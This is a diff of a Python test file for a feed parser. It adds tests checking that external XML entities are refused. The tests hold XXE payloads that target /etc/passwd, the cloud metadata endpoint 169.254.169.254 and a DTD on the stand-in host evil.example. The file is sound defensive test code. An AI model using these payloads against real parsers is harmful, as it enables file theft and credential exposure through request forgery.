@@ -743,7 +743,6 @@ def test_a_billion_laughs_bomb_is_refused_without_expanding(run):
     "declaration",
     [
         '<!ENTITY big "' + "x" * 5000 + '">',  # quadratic blow-up material
-        '<!ENTITY ext SYSTEM "file:///etc/passwd">',
         '<!ENTITY % param "x">',
         '<!ENTITY nested "&other;">',
     ],
@@ -752,6 +751,36 @@ def test_entity_declarations_that_could_expand_are_refused(declaration):
     body = f'<?xml version="1.0"?><!DOCTYPE rss [{declaration}]><rss version="2.0"/>'.encode()
     with pytest.raises(SourceError, match="declares XML entities"):
         feed.parse(body, "http://x.example/feed")
+
+
+XXE_FEED = """<?xml version="1.0"?>
+<!DOCTYPE rss [{declaration}]>
+<rss version="2.0"><channel><title>T</title>
+<item><title>&xxe;</title><link>http://x.example/a</link><description>&xxe;</description></item>
+</channel></rss>"""
+
+
+@pytest.mark.parametrize(
+    ("declaration", "named"),
+    [
+        ('<!ENTITY xxe SYSTEM "file:///etc/passwd">', "SYSTEM 'file:///etc/passwd'"),
+        (
+            '<!ENTITY xxe SYSTEM "http://169.254.169.254/latest/meta-data/">',
+            "SYSTEM 'http://169.254.169.254/latest/meta-data/'",
+        ),
+        (
+            '<!ENTITY % xxe PUBLIC "-//Evil//EN" "http://evil.example/x.dtd"> %xxe;',
+            "PUBLIC 'http://evil.example/x.dtd'",
+        ),
+    ],
+)
+def test_an_external_entity_is_named_as_such_and_nothing_is_read(run, declaration, named):
+    """XXE: a feed that tries to make the fetcher read /etc/passwd or the metadata service."""
+    result, articles = run(XXE_FEED.replace("{declaration}", declaration))
+    [error] = result.errors
+    assert f"declares an external XML entity ({named})" in error
+    assert "refused (external entities are never loaded)" in error
+    assert articles == {}
 
 
 @pytest.mark.parametrize(
